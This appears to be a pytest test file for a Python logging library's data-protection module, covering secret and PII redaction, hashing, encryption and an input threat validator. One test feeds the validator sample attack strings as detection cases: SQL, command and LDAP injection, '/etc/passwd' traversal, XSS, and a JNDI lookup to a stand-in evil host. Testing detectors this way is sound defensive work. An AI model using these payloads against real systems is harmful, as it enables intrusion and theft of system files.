import asyncio
import collections
import dataclasses
import decimal
import pickle
import re
import subprocess
import sys
import types
from concurrent.futures import ThreadPoolExecutor
from enum import Enum
from pathlib import Path
from typing import Any

import hydra_logger
import pydantic
import pytest
from hydra_logger import PII_PATTERNS, DataProtectionError
from hydra_logger.data_protection import (
    AsyncSecurityValidator,
    DataHasher,
    DataSanitizer,
    Redactor,
    SecurityValidator,
    redact,
    sanitize_text,
)

SECRET = "Zq7hX2" + "canary9Kd"
MARKED = f"password={SECRET}"


@dataclasses.dataclass(frozen=True)
class Account:
    owner: str
    password: str
    note: Any = None


@dataclasses.dataclass(slots=True)
class Slotted:
    api_key: str
    rest: list[Any]


class Model(pydantic.BaseModel):
    name: str
    password: str
    inner: dict[str, Any]


class FailedError(Exception):
    def __init__(self, where: str, *, token: str) -> None:
        super().__init__(f"{where}: {MARKED}")
        self.token = token


Row = collections.namedtuple("Row", ["user", "password"])


class Color(Enum):
    RED = "red"


def an_error() -> BaseException:
    try:
        try:
            raise ValueError(MARKED)
        except ValueError as cause:
            raise FailedError("login", token=SECRET) from cause
    except FailedError as error:
        error.add_note(MARKED)
        return error


def everything() -> dict[str, Any]:
    return {
        "text": MARKED,
        "bytes": MARKED.encode() + b"\xff",
        "bytearray": bytearray(MARKED.encode()),
        "list": [MARKED, [MARKED]],
        "tuple": (MARKED, 1, None),
        "row": Row("ada", SECRET),
        "set": {MARKED},
        "frozenset": frozenset({MARKED}),
        "deque": collections.deque([MARKED], maxlen=3),
        "ordered": collections.OrderedDict(password=SECRET),
        "default": collections.defaultdict(list, token=[SECRET]),
        "proxy": types.MappingProxyType({"secret": SECRET}),
        "frozen": Account("ada", SECRET, [MARKED]),
        "slotted": Slotted(SECRET, [MARKED]),
        "model": Model(name="ada", password=SECRET, inner={"x": MARKED}),
        "error": an_error(),
        "group": ExceptionGroup("several", [ValueError(MARKED)]),
        "os error": OSError(2, MARKED, MARKED),
        "path": Path("/tmp") / MARKED,
        "header": ("Authorization", f"Bearer {SECRET}"),
        "raw header": (b"authorization", f"Bearer {SECRET}".encode()),
        "pair": {"name": "DB_PASSWORD", "value": SECRET},
        "password": {"any": ["thing", {"deep": SECRET}]},
        "x-api-key": 815_4711,
        MARKED: "a key",
    }


def shown(data: Any, depth: int = 0) -> str:
    """Everything of an object that could be read, attributes and causes too."""
    if depth > 8:
        return ""
    parts = [repr(data), str(data)]
    parts += [repr(pair) for pair in vars(data).items()] if hasattr(data, "__dict__") else []
    if isinstance(data, dict | types.MappingProxyType):
        parts += [shown(part, depth + 1) for pair in data.items() for part in pair]
    elif isinstance(data, list | tuple | set | frozenset | collections.deque):
        parts += [shown(part, depth + 1) for part in data]
    elif isinstance(data, BaseException):
        inner = getattr(data, "exceptions", ())
        for part in (*data.args, *inner, data.__cause__, data.__context__):
            parts.append(shown(part, depth + 1))
    return "\n".join(parts)


def test_no_place_of_any_shape_keeps_a_secret_and_nothing_given_is_changed() -> None:
    data = everything()
    before = shown(data)
    sanitized = DataSanitizer().sanitize_data(data)
    assert SECRET not in shown(sanitized)
    assert "8154711" not in shown(sanitized)
    assert shown(data) == before


def test_every_shape_stays_what_it_was() -> None:
    data = everything()
    sanitized = DataSanitizer().sanitize_data(data)
    for old, new in zip(data.values(), sanitized.values(), strict=True):
        if old is not data["password"] and old is not data["x-api-key"] and old is not data["path"]:
            assert type(new) is type(old)
    assert sanitized["list"] == ["password=[REDACTED:PASSWORD]", ["password=[REDACTED:PASSWORD]"]]
    assert sanitized["row"] == Row("ada", "[REDACTED:PASSWORD]")
    assert sanitized["frozen"].owner == "ada"
    assert sanitized["model"].name == "ada"
    assert sanitized["deque"].maxlen == 3
    assert sanitized["default"].default_factory is list
    assert sanitized["error"].__cause__.args == ("password=[REDACTED:PASSWORD]",)
    assert sanitized["error"].__notes__ == ["password=[REDACTED:PASSWORD]"]


def test_what_is_not_sensitive_is_returned_equal() -> None:
    odd = object()
    data = {
        "monkey": "author",
        "max_tokens": 4096,
        "primary_key": [1, 2.5, True, None, decimal.Decimal("1.10"), Color.RED],
        "odd": odd,
        3: (4, frozenset({5})),
        (1, 2): b"\xff\x00",
    }
    assert DataSanitizer().sanitize_data(data) == data
    assert DataSanitizer().sanitize_data(odd) is odd


def test_numbers_of_cards_are_found_whatever_their_type() -> None:
    number = 4111_1111_1111_1111
    sanitized = DataSanitizer().sanitize_data([number, decimal.Decimal(number), number + 1])
    assert sanitized == ["[REDACTED:CREDIT_CARD]", "[REDACTED:CREDIT_CARD]", number + 1]


def test_cycles_stay_cycles_and_any_depth_is_followed() -> None:
    data: dict[str, Any] = {"password": SECRET}
    data["self"] = data
    data["list"] = [data]
    sanitized = DataSanitizer().sanitize_data(data)
    assert sanitized["self"] is sanitized
    assert sanitized["list"][0] is sanitized
    error = ValueError()
    error.args = (error, MARKED)
    assert SECRET not in repr(DataSanitizer().sanitize_data(error).args)

    deep: list[Any] = []
    place = deep
    for _ in range(50_000):
        place.append([])
        place = place[0]
    place.append(MARKED)
    found: Any = DataSanitizer().sanitize_data(deep)
    while isinstance(found, list):
        found = found[0]
    assert found == "password=[REDACTED:PASSWORD]"


def test_two_keys_with_one_marker_lose_no_entry() -> None:
    sanitized = DataSanitizer().sanitize_data({"a@example.com": 1, "b@example.com": 2})
    assert sanitized == {"[REDACTED:EMAIL]": 1, "[REDACTED:EMAIL]#2": 2}


def test_patterns_are_added_and_removed() -> None:
    sanitizer = DataSanitizer({"badge": r"B-\d{6}"})
    assert sanitizer.sanitize_data("B-123456") == "[REDACTED:BADGE]"
    sanitizer.add_pattern("room", r"room (?<value>\d+)")
    assert sanitizer.sanitize_data("room 12") == "room [REDACTED:ROOM]"
    assert sanitizer.remove_pattern("badge") is True
    assert sanitizer.remove_pattern("badge") is False
    assert sanitizer.sanitize_data("B-123456") == "B-123456"
    assert sanitizer.remove_pattern("email") is True
    assert sanitizer.remove_pattern("email") is False
    assert sanitizer.sanitize_data("ada@example.com pwd=hunter22").startswith("ada@example.com")


@pytest.mark.parametrize("pattern", ["(", "(?=a)", r"(a)\1", r"(\w{1,500}){500}"])
def test_a_pattern_that_cannot_be_used_is_refused_and_changes_nothing(pattern: str) -> None:
    sanitizer = DataSanitizer()
    with pytest.raises(DataProtectionError, match="odd"):
        sanitizer.add_pattern("odd", pattern)
    with pytest.raises(DataProtectionError):
        DataSanitizer({"odd": pattern})
    assert sanitizer.sanitize_data(MARKED) == "password=[REDACTED:PASSWORD]"


def test_a_sanitizer_is_used_and_changed_by_several_threads() -> None:
    sanitizer = DataSanitizer()

    def change(number: int) -> bool:
        sanitizer.add_pattern(f"n{number}", f"N-{number}-x")
        assert sanitizer.sanitize_data([MARKED]) == ["password=[REDACTED:PASSWORD]"]
        return sanitizer.remove_pattern(f"n{number}")

    with ThreadPoolExecutor(8) as pool:
        assert all(pool.map(change, range(64)))


def test_text_and_bytes_are_redacted_as_what_they_are() -> None:
    assert redact("mail ada@example.com") == "mail [REDACTED:EMAIL]"
    assert redact(b"\xffmail ada@example.com") == b"\xffmail [REDACTED:EMAIL]"
    assert redact("1.2.3.4") == "1.2.3.4"
    assert redact("1.2.3.4", detectors=["default", "ip"]) == "[REDACTED:IP]"
    surrogate = f"\ud800 {MARKED} \udfff"
    assert redact(surrogate) == "\ud800 password=[REDACTED:PASSWORD] \udfff"
    clean = "nothing of the kind"
    assert redact(clean) is clean
    assert redact(redact(MARKED)) == redact(MARKED)
    with pytest.raises(DataProtectionError, match="no detector"):
        redact("x", detectors=["emial"])
    with pytest.raises(TypeError, match="str or bytes"):
        redact(3)  # type: ignore[type-var]


def test_a_redactor_says_what_it_finds_by_place_and_never_by_value() -> None:
    redactor = Redactor(action="mask", actions={"email": "remove"}, allow=["ok@example.com"])
    text = "größe ada@example.com ok@example.com"
    [found] = redactor.find(text)
    assert found == {"detector": "email", "label": "EMAIL", "start": 6, "end": 21}
    assert redactor.redact(text) == "größe  ok@example.com"
    assert redactor.counts() == {"email": 1}
    with pytest.raises(ValueError, match='use "replace", "mask", "remove"'):
        Redactor(action="burn")  # type: ignore[arg-type]


def test_text_is_made_harmless_for_lines_and_terminals() -> None:
    assert sanitize_text("a\nb\x1b[2J\u202e") == r"a\nb\x1b[2J\u{202e}"
    assert sanitize_text(b"a\r") == rb"a\r"
    clean = "clean"
    assert sanitize_text(clean) is clean


def test_threats_have_a_type_a_severity_and_a_place_in_characters() -> None:
    validator = SecurityValidator()
    assert validator.validate_input("please select an option (or two); it's free") == {
        "valid": True,
        "threats": [],
    }
    found = validator.validate_input("größe=<script>alert(1)</script>")
    assert found["valid"] is False
    [threat] = found["threats"]
    assert (threat["type"], threat["severity"], threat["position"]) == ("xss", "high", 6)
    kinds = {
        "' OR '1'='1": "sql_injection",
        "../../../etc/passwd": "path_traversal",
        "; cat /etc/passwd": "command_injection",
        "*)(uid=*": "ldap_injection",
        '{"password": {"$ne": null}}': "nosql_injection",
        "${jndi:ldap://evil.example/a}": "jndi_lookup",
        "x%0d%0aSet-Cookie: a=b": "crlf_injection",
        "{{7*7}}": "template_injection",
    }
    for text, kind in kinds.items():
        for given in (text, text.encode()):
            types = [threat["type"] for threat in validator.validate_input(given)["threats"]]
            assert types == [kind]


def test_patterns_of_threats_are_added_refused_and_removed() -> None:
    validator = SecurityValidator()
    validator.add_threat_pattern("beacon", r"beacon-\d+", "low")
    [threat] = validator.validate_input("a beacon-17")["threats"]
    assert (threat["type"], threat["severity"], threat["position"]) == ("beacon", "low", 2)
    assert validator.remove_threat_pattern("beacon") is True
    assert validator.remove_threat_pattern("beacon") is False
    with pytest.raises(DataProtectionError, match="not usable"):
        validator.add_threat_pattern("odd", "(")
    with pytest.raises(DataProtectionError, match="low, medium, high"):
        validator.add_threat_pattern("odd", "x", "fatal")  # type: ignore[arg-type]


def test_a_text_is_validated_beside_the_event_loop() -> None:
    async def validate() -> None:
        validator = AsyncSecurityValidator()
        validator.add_threat_pattern("beacon", r"beacon-\d+")
        long = "x" * 200_000 + " beacon-1"
        several = await asyncio.gather(
            validator.validate_async("' OR 1=1 --"),
            validator.validate_async(long),
            validator.validate_async("hello"),
        )
        assert [found["valid"] for found in several] == [False, False, True]
        assert several[1]["threats"][0]["position"] == 200_001

    asyncio.run(validate())


def test_hashes_are_salted_or_keyed_and_verified() -> None:
    hasher = DataHasher()
    assert hasher.hash_data("x") != hasher.hash_data("x")
    assert hasher.verify_hash("x", hasher.hash_data(b"x")) is True
    keyed = DataHasher(key=b"0123456789abcdef", key_id="2026")
    assert keyed.hash_data("x") == keyed.hash_data("x")
    newer = DataHasher(key=b"fedcba9876543210", key_id="2027")
    with pytest.raises(DataProtectionError, match="2026"):
        newer.verify_hash("x", keyed.hash_data("x"))
    both = DataHasher(
        key=b"fedcba9876543210", key_id="2027", old_keys={"2026": b"0123456789abcdef"}
    )
    assert both.verify_hash("x", keyed.hash_data("x")) is True
    for algorithm in ("md5", "sha1", "whirlpool"):
        with pytest.raises(DataProtectionError, match="sha256"):
            DataHasher(algorithm)
    assert "0123456789abcdef" not in repr(keyed)
    with pytest.raises(TypeError):
        pickle.dumps(keyed)


def test_fields_are_hashed_in_a_copy() -> None:
    user = {"email": "ada@example.com", "age": 36, "none": None}
    hasher = DataHasher("sha512")
    hashed = hasher.hash_sensitive_fields(user, ["email", "age", "none", "absent"])
    assert user == {"email": "ada@example.com", "age": 36, "none": None}
    assert hasher.verify_hash("ada@example.com", hashed["email"])
    assert hasher.verify_hash(36, hashed["age"])
    assert hashed["none"] is None
    assert "absent" not in hashed


def test_passwords_are_hashed_by_argon2id() -> None:
    kept = DataHasher.hash_password("correct horse")
    assert kept.startswith("$argon2id$v=19$m=19456,t=2,p=1$")
    assert DataHasher.verify_password("correct horse", kept) is True
    assert DataHasher.verify_password("wrong horse", kept) is False
    with pytest.raises(DataProtectionError):
        DataHasher.verify_password("x", "plain")


@pytest.mark.parametrize("kind", PII_PATTERNS)
def test_the_constants_find_nothing_that_the_detectors_would_not(kind: str) -> None:
    found = {
        "email": "ada@example.com",
        "password": "password=hunter2hunter2",
        "api_key": "api_key=a1b2c3d4e5f6a7b8c9",
        "token": "access_token=a1b2c3d4e5f6a7b8c9d0",
        "secret": "client_secret=a1b2c3d4e5f6a7b8",
        "credit_card": "4111 1111 1111 1111",
        "ssn": "536-90-4399",
        "phone": "+1 (415) 555-2671",
    }[kind]
    assert re.search(PII_PATTERNS[kind], found)
    assert "[REDACTED:" in redact(f"x {found} y")


def test_the_classes_are_names_of_the_package_and_importing_it_stays_light() -> None:
    for name in ("DataSanitizer", "SecurityValidator", "DataHasher", "Redactor", "redact"):
        assert getattr(hydra_logger, name) is getattr(hydra_logger.data_protection, name)
    program = (
        "import sys, hydra_logger; "
        "assert not {'asyncio', 'dataclasses', 'typing', 'hydra_logger.data_protection'}"
        " & set(sys.modules)"
    )
    ran = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True)
    assert ran.returncode == 0, ran.stderr


def test_hashes_join_what_belongs_together_and_a_key_shows_what_was_encrypted() -> None:
    hashed = Redactor(action="hash", hash_key=("k1", b"0123456789abcdef"))
    first = hashed.redact("from You@Example.org")
    assert first.startswith("from [EMAIL:k1:")
    assert hashed.redact("from you@example.org") == first == hashed.redact(first)
    sealed = Redactor(action="encrypt", encryption_key=("k2", bytes(range(32))))
    text = "from you@example.org to me"
    hidden = sealed.redact(text)
    assert "[EMAIL:enc:k2:" in hidden
    assert sealed.reveal(hidden) == text
    other = Redactor(action="encrypt", encryption_key=("k2", bytes(32)))
    with pytest.raises(DataProtectionError):
        other.reveal(hidden)
    with pytest.raises(DataProtectionError):
        Redactor(action="hash")
    with pytest.raises(DataProtectionError, match="5 bytes, not 32"):
        Redactor(action="encrypt", encryption_key=("k", b"short"))
